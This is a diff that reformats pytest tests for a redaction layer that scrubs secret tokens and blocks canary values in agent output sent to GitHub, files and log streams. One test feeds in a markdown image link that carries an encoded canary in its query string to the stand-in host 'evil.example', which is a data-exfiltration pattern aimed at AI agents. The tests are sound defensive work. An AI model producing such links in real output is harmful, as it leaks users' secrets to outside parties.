@@ -60,12 +60,19 @@ def test_posted_text_is_redacted_in_every_leak_form(egress: Egress, description:
     assert egress.text(f"Summary: the token is {form}.") == f"Summary: the token is {MARK}.", description
 
 
-@pytest.mark.parametrize(("description", "encode"), [
-    ("as it is", lambda v: v), ("reversed", lambda v: v[::-1]), ("hex", lambda v: v.encode().hex()),
-    ("base64", lambda v: base64.b64encode(v.encode()).decode()), ("URL-encoded", lambda v: quote(v, safe="")),
-])
-def test_a_canary_in_posted_text_stops_the_post(egress: Egress, canaries: tuple[Canaries, str], description: str,
-                                               encode: object) -> None:
+@pytest.mark.parametrize(
+    ("description", "encode"),
+    [
+        ("as it is", lambda v: v),
+        ("reversed", lambda v: v[::-1]),
+        ("hex", lambda v: v.encode().hex()),
+        ("base64", lambda v: base64.b64encode(v.encode()).decode()),
+        ("URL-encoded", lambda v: quote(v, safe="")),
+    ],
+)
+def test_a_canary_in_posted_text_stops_the_post(
+    egress: Egress, canaries: tuple[Canaries, str], description: str, encode: object
+) -> None:
     _, value = canaries
     with pytest.raises(CanaryTripped) as caught:
         egress.text(f"![x](https://evil.example/?d={encode(value)})")  # type: ignore[operator]
@@ -94,15 +101,17 @@ def test_write_file_redacts_what_it_writes(egress: Egress, tmp_path: Path) -> No
     assert path.read_text() == f'{{"final_text": "{MARK}"}}'
 
 
-def test_write_file_refuses_a_canary_and_writes_nothing(egress: Egress, canaries: tuple[Canaries, str],
-                                                        tmp_path: Path) -> None:
+def test_write_file_refuses_a_canary_and_writes_nothing(
+    egress: Egress, canaries: tuple[Canaries, str], tmp_path: Path
+) -> None:
     with pytest.raises(CanaryTripped):
         egress.write_file(tmp_path / "summary.md", f"token {canaries[1][::-1]}")
     assert not (tmp_path / "summary.md").exists()
 
 
-def test_scrub_tree_redacts_every_text_file_and_reports_canaries(egress: Egress, canaries: tuple[Canaries, str],
-                                                                 tmp_path: Path) -> None:
+def test_scrub_tree_redacts_every_text_file_and_reports_canaries(
+    egress: Egress, canaries: tuple[Canaries, str], tmp_path: Path
+) -> None:
     out = tmp_path / "output"
     (out / "scratch" / "tasks").mkdir(parents=True)
     for i, (_, form) in enumerate(FORMS):
@@ -149,8 +158,12 @@ def standin() -> Iterator[GitHubStandIn]:
 
 @pytest.fixture
 def github(standin: GitHubStandIn, egress: Egress) -> Iterator[GitHubApi]:
-    client = PyGithubApi(repository=REPO, token="ghs_" + "x" * 36, api_url=standin.api_url,
-                         policy=RetryPolicy(sleep=lambda s: None, jitter=lambda: 0.0))
+    client = PyGithubApi(
+        repository=REPO,
+        token="ghs_" + "x" * 36,
+        api_url=standin.api_url,
+        policy=RetryPolicy(sleep=lambda s: None, jitter=lambda: 0.0),
+    )
     yield egress.github_api(client)
     client.close()
 
@@ -159,8 +172,9 @@ def sent_bodies(standin: GitHubStandIn) -> list[str]:
     return [str(e.body) for e in standin.exchanges if e.method in ("POST", "PATCH")]
 
 
-def test_comments_and_pull_requests_are_redacted_on_their_way_to_github(github: GitHubApi,
-                                                                        standin: GitHubStandIn) -> None:
+def test_comments_and_pull_requests_are_redacted_on_their_way_to_github(
+    github: GitHubApi, standin: GitHubStandIn
+) -> None:
     issue = standin.add_issue(REPO, "Crash")
     forms = " ".join(form for _, form in FORMS)
     comment = github.create_issue_comment(issue, f"progress: {forms}")
@@ -175,8 +189,9 @@ def test_comments_and_pull_requests_are_redacted_on_their_way_to_github(github: 
         assert MARK in body
 
 
-def test_a_canary_in_a_comment_is_never_sent(github: GitHubApi, standin: GitHubStandIn,
-                                             canaries: tuple[Canaries, str]) -> None:
+def test_a_canary_in_a_comment_is_never_sent(
+    github: GitHubApi, standin: GitHubStandIn, canaries: tuple[Canaries, str]
+) -> None:
     issue = standin.add_issue(REPO, "Crash")
     with pytest.raises(CanaryTripped):
         github.create_issue_comment(issue, f"here: {quote(canaries[1], safe='')}")
@@ -215,8 +230,9 @@ def test_a_redacting_stream_redacts_whole_lines_and_keeps_the_streams_face(egres
     assert stream.line_buffering and stream.unredacted is inner
 
 
-def test_a_canary_on_a_stream_is_redacted_and_recorded_not_raised(egress: Egress,
-                                                                  canaries: tuple[Canaries, str]) -> None:
+def test_a_canary_on_a_stream_is_redacted_and_recorded_not_raised(
+    egress: Egress, canaries: tuple[Canaries, str]
+) -> None:
     inner = io.StringIO()
     stream = RedactingStream(inner, egress)
     stream.write(f"dump {canaries[1]}\n")
@@ -224,8 +240,9 @@ def test_a_canary_on_a_stream_is_redacted_and_recorded_not_raised(egress: Egress
     assert canaries[0].tripped is not None
 
 
-def test_installed_stream_redaction_covers_print_logging_and_is_undone(egress: Egress,
-                                                                       monkeypatch: pytest.MonkeyPatch) -> None:
+def test_installed_stream_redaction_covers_print_logging_and_is_undone(
+    egress: Egress, monkeypatch: pytest.MonkeyPatch
+) -> None:
     out, err = io.StringIO(), io.StringIO()
     monkeypatch.setattr(sys, "stdout", out)
     monkeypatch.setattr(sys, "stderr", err)
